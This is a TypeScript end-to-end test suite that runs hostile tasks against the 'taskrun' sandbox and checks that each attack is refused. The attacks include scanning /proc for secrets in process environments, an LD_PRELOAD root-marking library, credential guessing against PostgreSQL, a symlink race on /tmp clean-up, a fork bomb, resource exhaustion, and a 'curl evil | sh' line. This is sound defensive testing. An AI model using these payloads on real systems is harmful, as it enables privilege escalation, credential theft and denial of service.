import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectBubblewrap } from '../src/runner/isolation/bubblewrap';
import { startApp, type AppProcess } from './e2e/support/app-process';
import { waitFor } from './support/harness';

// Tasks written the way a hostile editor would write them, run by the product as `npm start` runs it
// (embedded PostgreSQL, supervisor, web, runner; as root, like CI). Each attack must fail, and the run
// must end cleanly, leaving nothing behind. The machine's own PostgreSQL trusts every local connection,
// so these run against the embedded server only.

const root = process.getuid?.() === 0;
const hasCompiler = root && spawnSync('gcc', ['--version']).status === 0;
// Strict isolation needs bubblewrap: without it (not installed, user namespaces blocked) its tests say so and skip.
const bubblewrap = await detectBubblewrap(root ? 64000 : undefined);
if (!bubblewrap.available) console.warn(`strict isolation tests skipped: ${bubblewrap.reason}`);
let app: AppProcess;
let editor: (p: string, init?: RequestInit) => Promise<Response>;
let isolation: { levels: string[]; cgroup: string; bubblewrap: boolean; run_users: boolean };
let dataDir: string;
let webPort: number;

beforeAll(async () => {
  app = await startApp();
  dataDir = path.join(app.dir, 'data');
  webPort = Number(new URL(app.url).port);
  const res = await app.api('/api/tokens', {
    method: 'POST',
    body: JSON.stringify({ name: 'hostile-editor', role: 'editor' }),
    headers: { 'content-type': 'application/json' },
  });
  const { token } = (await res.json()) as { token: string };
  editor = (p, init = {}) =>
    fetch(`${app.url}${p}`, {
      ...init,
      headers: { 'content-type': 'application/json', ...(init.headers as Record<string, string>), Authorization: `Bearer ${token}` },
    });
  isolation = await waitFor(
    async () => {
      const info = await (await app.api('/api/system/info')).json();
      return info.runners.length > 0 ? info.isolation : undefined;
    },
    30_000,
    'the runner to report its isolation',
  );
}, 120_000);
let cleanupMarker: string | undefined;
afterAll(async () => {
  if (cleanupMarker) fs.rmSync(cleanupMarker, { force: true });
  await app?.stop();
});

type Run = { run_id: number; status: string; error: string | null; signal: string | null; exit_code: number | null; log: string };
type Ended = Run & { text: string; ms: number };

let n = 0;
/** Creates a task as the editor, runs it, waits for its end: the run and its log. */
async function attack(
  language: 'py' | 'sh' | 'js',
  content: string,
  settings: Record<string, unknown> = {},
  waitMs = 60_000,
): Promise<Ended> {
  const id = `hostile${++n}`;
  const created = await editor('/api/tasks', { method: 'POST', body: JSON.stringify({ id, language, content, ...settings }) });
  expect(created.status, await created.clone().text()).toBe(201);
  const started = Date.now();
  const exec = await editor(`/api/tasks/${id}/execute`, { method: 'POST' });
  expect(exec.status).toBe(202);
  const { run_id } = (await exec.json()) as { run_id: number };
  const run = await waitFor(
    async () => {
      const r = (await (await app.api(`/api/runs/${run_id}`)).json()) as Run & { finished_at: string | null };
      return r.finished_at ? r : undefined;
    },
    waitMs,
    `run ${run_id} of ${id} to end`,
  );
  const ms = Date.now() - started;
  const text = await (await app.api(run.log)).text();
  return { ...run, text, ms };
}

// The uid a run printed as `uid=N`, and whether any process of it is still alive.
const uidOf = (text: string) => Number(/uid=(\d+)/.exec(text)?.[1]);
// (The runner starts the next run's shell ahead as an idle uid: a child of the runner, still the
// waiting wrapper (`taskrun-run`), which is no process of the run that ended. A run's own process
// would have exec'd its task, or be an orphan, or a child of another.)
function processesOfUid(uid: number): number[] {
  return fs
    .readdirSync('/proc')
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        const status = fs.readFileSync(`/proc/${p}/status`, 'utf8');
        if (!new RegExp(`^Uid:\\s+${uid}\\b`, 'm').test(status) || /^State:\s+Z/m.test(status)) return false;
        const parent = /^PPid:\s+(\d+)/m.exec(status)![1];
        const waiting = fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('\0taskrun-run');
        return !(waiting && fs.readFileSync(`/proc/${parent}/cmdline`, 'utf8').includes('runner/main'));
      } catch {
        return false;
      }
    })
    .map(Number);
}

// Every process of the run is ended with its end; the last of a fork bomb's may take the runner's
// clean-up right after the end is recorded.
const noneLeft = (uid: number) =>
  waitFor(() => processesOfUid(uid).length === 0, 10_000, `no process of uid ${uid} (${processesOfUid(uid).join(', ')})`);

describe.skipIf(!root)("a task cannot reach taskrun's keys", () => {
  it('cannot read the environment or memory of any taskrun process, which hold no secrets anyway', async () => {
    const run = await attack(
      'js',
      `
const fs = require('fs');
const out = { uid: process.getuid(), leaks: [] };
for (const f of ['environ', 'mem']) {
  try { fs.readFileSync('/proc/' + process.ppid + '/' + f); out['parent_' + f] = 'read'; } catch (e) { out['parent_' + f] = e.code; }
}
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  try {
    const env = fs.readFileSync('/proc/' + pid + '/environ', 'latin1');
    if (/(DATABASE_URL|SECRET_KEY|ADMIN_PASSWORD|DATABASE_OWNER_URL)=/.test(env)) out.leaks.push(pid);
  } catch {}
}
console.log('uid=' + out.uid);
console.log(JSON.stringify(out));
`,
    );
    expect(run.status).toBe('success');
    const out = JSON.parse(run.text.trim().split('\n').at(-1)!);
    expect(out.uid).toBeGreaterThan(0);
    expect(out.parent_environ).toBe('EACCES');
    expect(out.parent_mem).toBe('EACCES');
    expect(out.leaks).toEqual([]);
    // And what taskrun's own processes keep in their environment, read as root: no secret. (The
    // supervisor's own initial environment is what its operator started it with: root's to read.)
    const children = childPids(app.pid);
    expect(children.length).toBeGreaterThanOrEqual(2);
    for (const pid of children) {
      const env = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');
      expect(env, `pid ${pid}`).not.toMatch(/(^|\0)(DATABASE_URL|SECRET_KEY|ADMIN_PASSWORD)=/);
    }
  });

  it.skipIf(!hasCompiler)('cannot load its code into a process that runs as root through its environment (LD_PRELOAD)', async () => {
    // A library that leaves a mark when loaded into a root process: the launcher is root until it
    // switches to the run's uid, and glibc loads LD_PRELOAD into any process that is not setuid.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'taskrun-preload-'));
    fs.chmodSync(dir, 0o755);
    const mark = path.join(app.dir, 'root-was-here');
    fs.writeFileSync(
      path.join(dir, 'mark.c'),
      `#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void mark(void) {
  if (getuid() == 0 || geteuid() == 0) { FILE *f = fopen("${mark}", "a"); if (f) { fprintf(f, "root pid %d\\n", getpid()); fclose(f); } }
}
`,
    );
    execFileSync('gcc', ['-shared', '-fPIC', '-o', path.join(dir, 'mark.so'), path.join(dir, 'mark.c')]);
    fs.chmodSync(path.join(dir, 'mark.so'), 0o755);
    try {
      const run = await attack('sh', 'echo "preload $LD_PRELOAD"\n', { env: { LD_PRELOAD: path.join(dir, 'mark.so') } });
      expect(run.status).toBe('success');
      // The task itself got its variable: it is its own to use, as its own user.
      expect(run.text).toContain(`preload ${path.join(dir, 'mark.so')}`);
      expect(fs.existsSync(mark) ? fs.readFileSync(mark, 'utf8') : '').toBe('');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
      fs.rmSync(mark, { force: true });
    }
  });

  it('cannot read DATA_DIR: the secret key, the database passwords, the database files', async () => {
    const run = await attack(
      'py',
      `
import os
print("uid=%d" % os.getuid())
for name in ["secret.key", "pg-password", "pg-app-password", "embedded-url", "pg/PG_VERSION", "pg/global/pg_control"]:
    try:
        open(os.path.join(os.environ["DATA"], name), "rb").read()
        print("READ", name)
    except OSError as e:
        print("refused", name, type(e).__name__)
try:
    print("LISTED", os.listdir(os.environ["DATA"]))
except OSError as e:
    print("refused listing", type(e).__name__)
`,
      { env: { DATA: dataDir } },
    );
    expect(run.status).toBe('success');
    expect(run.text).not.toMatch(/READ|LISTED/);
    expect(run.text.match(/refused/g)).toHaveLength(7);
    const key = fs.readFileSync(path.join(dataDir, 'secret.key'), 'utf8').trim();
    expect(run.text).not.toContain(key);
  });

  it("cannot connect to the database: taskrun's credentials are nowhere it can read, and guesses fail", async () => {
    const port = fs.readFileSync(path.join(dataDir, 'pg-port'), 'utf8').trim();
    const run = await attack(
      'sh',
      `
id -u | sed 's/^/uid=/'
found=$(cat "$DATA"/pg-password "$DATA"/pg-app-password "$DATA"/embedded-url 2>/dev/null
  for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null | grep -E '^(DATABASE_URL|DATABASE_OWNER_URL|PGPASSWORD)='; done)
echo "found: [$found]"
for url in "postgres://postgres@127.0.0.1:$PORT/postgres" "postgres://taskrun@127.0.0.1:$PORT/postgres" \\
           "postgres://postgres:postgres@127.0.0.1:$PORT/postgres" "postgres://taskrun:taskrun@127.0.0.1:$PORT/postgres"; do
  if PGCONNECT_TIMEOUT=5 psql -w "$url" -Atc 'select 1' >/dev/null 2>&1; then echo "CONNECTED $url"; else echo "refused $url"; fi
done
`,
      { env: { DATA: dataDir, PORT: port } },
    );
    expect(run.status).toBe('success');
    expect(run.text).toContain('found: []');
    expect(run.text).not.toContain('CONNECTED');
    expect(run.text.match(/^refused /gm)).toHaveLength(4);
    // The same port takes taskrun's real credentials: the refusals are not a wrong address.
    const sql = postgres(fs.readFileSync(path.join(dataDir, 'embedded-url'), 'utf8').trim(), { max: 1, onnotice: () => undefined });
    expect((await sql`select 1 as one`)[0]!.one).toBe(1);
    await sql.end();
  });

  it("cannot append to another run's log, nor read or list any log", async () => {
    const other = await attack('sh', 'echo "the other run\'s own output"\n');
    const before = await (await app.api(other.log)).text();
    const file = path.join(app.logsDir, path.basename(other.log));
    const run = await attack(
      'py',
      `
import os
print("uid=%d" % os.getuid())
for what, act in [("append", lambda: open(os.environ["VICTIM"], "a").write("forged\\n")),
                  ("read", lambda: open(os.environ["VICTIM"]).read()),
                  ("list", lambda: os.listdir(os.environ["LOGS"])),
                  ("create", lambda: open(os.path.join(os.environ["LOGS"], "forged.log"), "w").write("x"))]:
    try:
        act()
        print("DID", what)
    except OSError as e:
        print("refused", what, type(e).__name__)
`,
      { env: { VICTIM: file, LOGS: app.logsDir } },
    );
    expect(run.status).toBe('success');
    expect(run.text).not.toContain('DID');
    expect(run.text.match(/refused/g)).toHaveLength(4);
    expect(await (await app.api(other.log)).text()).toBe(before);
    expect(fs.existsSync(path.join(app.logsDir, 'forged.log'))).toBe(false);
  });

  it("cannot change, add, rename or remove any task's script, its own included", async () => {
    const victim = path.join(app.tasksDir, 'victim.sh');
    fs.writeFileSync(victim, 'echo victim\n', { mode: 0o755 });
    const run = await attack(
      'py',
      `
import os, sys
print("uid=%d" % os.getuid())
tasks = os.environ["TASKS"]
victim = os.path.join(tasks, "victim.sh")
for what, act in [("write", lambda: open(victim, "w").write("curl evil | sh\\n")),
                  ("add", lambda: open(os.path.join(tasks, "added.sh"), "w").write("x")),
                  ("rename", lambda: os.rename(victim, victim + ".bak")),
                  ("remove", lambda: os.remove(victim)),
                  ("chmod", lambda: os.chmod(victim, 0o777)),
                  ("own", lambda: open(sys.argv[0], "a").write("# changed\\n"))]:
    try:
        act()
        print("DID", what)
    except OSError as e:
        print("refused", what, type(e).__name__)
`,
      { env: { TASKS: app.tasksDir } },
    );
    expect(run.status).toBe('success');
    expect(run.text).not.toContain('DID');
    expect(run.text.match(/refused/g)).toHaveLength(6);
    expect(fs.readFileSync(victim, 'utf8')).toBe('echo victim\n');
    expect(fs.existsSync(path.join(app.tasksDir, 'added.sh'))).toBe(false);
  });
});

describe.skipIf(!root)('a run ends cleanly, whatever it starts', () => {
  it('ends at its timeout even when its processes stop everything they can signal (SIGSTOP to all of its uid)', async () => {
    const run = await attack(
      'py',
      `
import os, signal, time
print("uid=%d" % os.getuid(), flush=True)
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass
        time.sleep(0.001)
time.sleep(1000)
`,
      { timeout_s: 2 },
    );
    expect(run.status).toBe('timeout');
    await noneLeft(uidOf(run.text));
  });

  it('kills what escaped its process group (setsid, nohup, a double fork) at its end', async () => {
    const run = await attack(
      'sh',
      `
id -u | sed 's/^/uid=/'
setsid sleep 1000 & echo "pid $!"
nohup sleep 1000 >/dev/null 2>&1 & echo "pid $!"
(sleep 1000 & echo "pid $!") &
sleep 0.3
echo done
`,
    );
    expect(run.status).toBe('success');
    const pids = [...run.text.matchAll(/^pid (\d+)$/gm)].map((m) => Number(m[1]));
    expect(pids).toHaveLength(3);
    for (const pid of pids)
      expect(fs.existsSync(`/proc/${pid}/status`) && !/State:\s+Z/.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))).toBe(false);
    await noneLeft(uidOf(run.text));
  });

  it('clears what a run left in /tmp without following a link another run swaps in while it is cleared', async () => {
    // Root's clean-up of run A's folder in /tmp must never reach outside it, even when run B (another
    // uid, still running) replaces a folder being emptied with a link to something else meanwhile.
    const victim = fs.mkdtempSync(path.join(os.tmpdir(), 'taskrun-victim-'));
    fs.chmodSync(victim, 0o755);
    const count = 30_000;
    for (let i = 0; i < count; i++) fs.writeFileSync(path.join(victim, `f${i}`), '');
    fs.writeFileSync(path.join(victim, 'secret.key'), "root's\n");
    const dir = `/tmp/taskrun-race-${process.pid}`;
    try {
      const racer = attack(
        'py',
        `
import os, time
a = "${dir}/a"
deadline = time.time() + 60
while not os.path.exists("${dir}/ready"):
    if time.time() > deadline: raise SystemExit("never ready")
    time.sleep(0.005)
first = os.stat(a).st_mtime_ns
while os.stat(a).st_mtime_ns == first:
    if time.time() > deadline: raise SystemExit("never cleared")
time.sleep(0.01)
os.rename(a, a + "_old")
os.symlink("${victim}", a)
print("swapped")
`,
        {},
        120_000,
      );
      const planter = await attack(
        'py',
        `
import os
os.makedirs("${dir}/a")
os.chmod("${dir}", 0o777)
os.chmod("${dir}/a", 0o777)
for i in range(${count}):
    open("${dir}/a/f%d" % i, "w").close()
open("${dir}/a/secret.key", "w").close()
open("${dir}/ready", "w").close()
`,
        {},
        120_000,
      );
      expect(planter.status).toBe('success');
      const raced = await racer;
      console.log(`race: ${raced.text.trim() || raced.error}`);
      expect(fs.readdirSync(victim)).toHaveLength(count + 1);
      expect(fs.readFileSync(path.join(victim, 'secret.key'), 'utf8')).toBe("root's\n");
    } finally {
      fs.rmSync(victim, { recursive: true, force: true });
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('leaves no file behind for the next run of its uid: scratch folder, /tmp, /dev/shm', async () => {
    const run = await attack(
      'sh',
      `
id -u | sed 's/^/uid=/'
echo "home $HOME"
echo secret > "$TASKRUN_WORKDIR/kept-for-later"
echo secret > /tmp/taskrun-hostile-$$ && echo "tmp /tmp/taskrun-hostile-$$"
echo secret > /dev/shm/taskrun-hostile-$$ && echo "shm /dev/shm/taskrun-hostile-$$"
pwd | sed 's/^/cwd /'
`,
    );
    expect(run.status).toBe('success');
    const home = /^home (.+)$/m.exec(run.text)![1]!;
    expect(home.startsWith('/tmp/taskrun-work/')).toBe(true);
    expect(/^cwd (.+)$/m.exec(run.text)![1]).toBe(app.tasksDir);
    // Cleared right after the end is recorded: none of it is the run's outcome.
    const left = () => [home, ...[...run.text.matchAll(/^(?:tmp|shm) (.+)$/gm)].map((m) => m[1]!)].filter((p) => fs.existsSync(p));
    await waitFor(() => left().length === 0, 10_000, `nothing left (${left().join(', ')})`);
  });

  it('stops a fork bomb at its process limit, with that reason, while the web answers', async () => {
    // Every process waits for the two it starts: they all stay, and the kernel holds them at the limit.
    const pending = attack('sh', 'id -u | sed "s/^/uid=/"\nbomb() { bomb | bomb; }\nbomb\n', { max_processes: 64 });
    // Meanwhile the product answers.
    await new Promise((r) => setTimeout(r, 500));
    expect((await app.api('/api/tasks')).status).toBe(200);
    const run = await pending;
    expect(run.status).toBe('failed');
    expect(run.error).toMatch(/process limit reached: 64/);
    expect(run.text).toMatch(/\[taskrun\] process limit reached: 64 .*: stopping the run/);
    await noneLeft(uidOf(run.text));
    console.log(`fork bomb ended ${run.ms} ms after its execute`);
  });

  it('stops a run that allocates past its memory limit, with that reason', async () => {
    const run = await attack(
      'py',
      `
import os
print("uid=%d" % os.getuid(), flush=True)
chunks = []
while True:
    chunks.append(b"x" * (4 << 20))
`,
      { max_memory_bytes: 128 * 1024 * 1024 },
    );
    expect(run.status).toBe('failed');
    if (isolation.cgroup === 'none') {
      expect(run.text).toMatch(/MemoryError/);
    } else {
      expect(run.error).toMatch(/out of memory: the run reached its memory limit of 128 MB/);
      expect(run.text).toMatch(/\[taskrun\] out of memory/);
    }
    await noneLeft(uidOf(run.text));
    console.log(`memory bomb ended ${run.ms} ms after its execute`);
  });

  it('refuses a 10 GB allocation at once (RLIMIT_DATA): the program fails, the machine does not notice', async () => {
    const run = await attack(
      'py',
      'import os\nprint("uid=%d" % os.getuid(), flush=True)\nbig = b"x" * (10 * 1024 ** 3)\nprint("ALLOCATED")\n',
      { max_memory_bytes: 256 * 1024 * 1024 },
    );
    expect(run.status).toBe('failed');
    expect(run.text).toMatch(/MemoryError/);
    expect(run.text).not.toContain('ALLOCATED');
  });

  it('stops a 100 GB file at its file size limit, with that reason', async () => {
    const run = await attack('sh', 'id -u | sed "s/^/uid=/"\nhead -c 100G /dev/zero > "$TASKRUN_WORKDIR/big"\necho "SURVIVED $?"\n', {
      max_file_bytes: 8 * 1024 * 1024,
    });
    // head dies of SIGXFSZ; the shell goes on and says so, and the run ends by itself.
    expect(run.text).toMatch(/SURVIVED 153/);
    const py = await attack(
      'py',
      'import os\nf = open(os.path.join(os.environ["TASKRUN_WORKDIR"], "big"), "wb")\nwhile True:\n    f.write(b"\\0" * (1 << 20))\n',
      { max_file_bytes: 8 * 1024 * 1024 },
    );
    expect(py.status).toBe('failed');
    expect(py.text).toMatch(/File too large/);
    const killed = await attack('sh', 'exec head -c 100G /dev/zero > "$TASKRUN_WORKDIR/big"\n', { max_file_bytes: 8 * 1024 * 1024 });
    expect(killed.status).toBe('failed');
    expect(killed.signal).toBe('SIGXFSZ');
    expect(killed.error).toMatch(/file size limit: a file reached 8 MB/);
    expect(killed.text).toMatch(/\[taskrun\] file size limit/);
  });

  it('stops a run at its CPU time limit, with that reason', async () => {
    const run = await attack('sh', 'exec python3 -c "while True: pass"\n', { max_cpu_seconds: 1 });
    expect(run.status).toBe('failed');
    expect(run.signal).toBe('SIGXCPU');
    expect(run.error).toMatch(/CPU time limit: a process used 1 s of CPU/);
  });
});

describe.skipIf(!root || !bubblewrap.available)('strict isolation', () => {
  it('is offered where bubblewrap runs, and shown on the task', async () => {
    expect(isolation.bubblewrap).toBe(true);
    expect(isolation.levels).toContain('strict');
  });

  it('cuts the network with network: false, and keeps it otherwise', async () => {
    const probe = `
import socket
try:
    socket.create_connection(("127.0.0.1", ${webPort}), timeout=3).close()
    print("CONNECTED")
except OSError as e:
    print("refused", type(e).__name__)
`;
    const cut = await attack('py', probe, { isolation: 'strict', network: false });
    expect(cut.status).toBe('success');
    expect(cut.text).toMatch(/^refused/m);
    // Nor a Unix socket: the machine's PostgreSQL listens in /run, which a run without network does not see.
    const socket = '/var/run/postgresql/.s.PGSQL.5432';
    if (fs.existsSync(socket)) {
      const unix = await attack(
        'py',
        `
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("${socket}")
    print("CONNECTED")
except OSError as e:
    print("refused", type(e).__name__)
`,
        { isolation: 'strict', network: false },
      );
      expect(unix.text).toMatch(/^refused/m);
    }
    const kept = await attack('py', probe, { isolation: 'strict' });
    expect(kept.text).toContain('CONNECTED');
    // From the host the port answers: the refusal was the sandbox.
    await new Promise<void>((resolve, reject) =>
      net
        .connect(webPort, '127.0.0.1')
        .once('connect', function (this: net.Socket) {
          this.destroy();
          resolve();
        })
        .once('error', reject),
    );
  });

  it('shows a read-only system, its own processes only, a private /tmp and only its own script', async () => {
    fs.writeFileSync(path.join(app.tasksDir, 'neighbour.sh'), 'echo neighbour\n', { mode: 0o755 });
    const marker = `/tmp/taskrun-hostile-marker-${process.pid}`;
    fs.writeFileSync(marker, "the host's /tmp\n");
    cleanupMarker = marker;
    const run = await attack(
      'sh',
      `
echo "procs $(ls /proc | grep -c '^[0-9]')"
touch /usr/taskrun-hostile 2>/dev/null && echo "WROTE /usr" || echo "refused /usr"
ls /tmp/taskrun-hostile-marker-* 2>/dev/null && echo "SEES HOST TMP" || echo "private tmp"
echo "tasks [$(ls -A "$TASKS")]"
ls -A "$DATA" 2>/dev/null | grep -q . && echo "SEES DATA" || echo "no data"
echo x > "$TASKRUN_WORKDIR/ok" && echo "scratch writable"
`,
      { isolation: 'strict', env: { TASKS: app.tasksDir, DATA: dataDir } },
    );
    expect(run.status).toBe('success');
    expect(Number(/procs (\d+)/.exec(run.text)![1])).toBeLessThan(10);
    expect(run.text).toContain('refused /usr');
    expect(run.text).toContain('private tmp');
    expect(run.text).not.toContain('SEES HOST TMP');
    expect(run.text).toMatch(/tasks \[hostile\d+\.sh\]/);
    expect(run.text).toContain('no data');
    expect(run.text).toContain('scratch writable');
  });

  it('refuses network: false without strict, naming why', async () => {
    const res = await editor('/api/tasks', {
      method: 'POST',
      body: JSON.stringify({ id: 'netless', language: 'sh', content: 'true\n', network: false }),
    });
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(/network: false needs isolation: "strict"/);
  });
});

describe.skipIf(!root)("the audit log against taskrun's own database role", () => {
  it('can be added to and read, never changed, emptied or unprotected', async () => {
    const sql = postgres(fs.readFileSync(path.join(dataDir, 'embedded-url'), 'utf8').trim(), { max: 1, onnotice: () => undefined });
    try {
      const [me] = await sql`select current_user as name, rolsuper from pg_roles where rolname = current_user`;
      expect(me).toEqual({ name: 'taskrun', rolsuper: false });
      await sql`insert into audit_log (actor, action) values ('test', 'hostile.check')`;
      expect((await sql`select count(*)::int as n from audit_log where action = 'hostile.check'`)[0]!.n).toBe(1);
      for (const statement of [
        "update audit_log set action = 'forged'",
        'delete from audit_log',
        'truncate audit_log',
        'alter table audit_log disable trigger all',
        'drop trigger audit_log_append_only on audit_log',
      ]) {
        await expect(sql.unsafe(statement), statement).rejects.toThrow(/permission denied|must be owner/);
      }
    } finally {
      await sql.end();
    }
  });
});

// The pids of a process's descendants, from /proc.
function childPids(pid: number): number[] {
  const all = fs
    .readdirSync('/proc')
    .filter((p) => /^\d+$/.test(p))
    .map(Number);
  const parent = new Map<number, number>();
  for (const p of all) {
    try {
      const stat = fs.readFileSync(`/proc/${p}/stat`, 'utf8');
      parent.set(p, Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]));
    } catch {
      // gone
    }
  }
  const out: number[] = [];
  const walk = (of: number) => {
    for (const [p, pp] of parent) {
      if (pp === of) {
        out.push(p);
        walk(p);
      }
    }
  };
  walk(pid);
  // taskrun's own: node processes, not the embedded server (its environment is PostgreSQL's own).
  return out.filter((p) => {
    try {
      return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('node');
    } catch {
      return false;
    }
  });
}
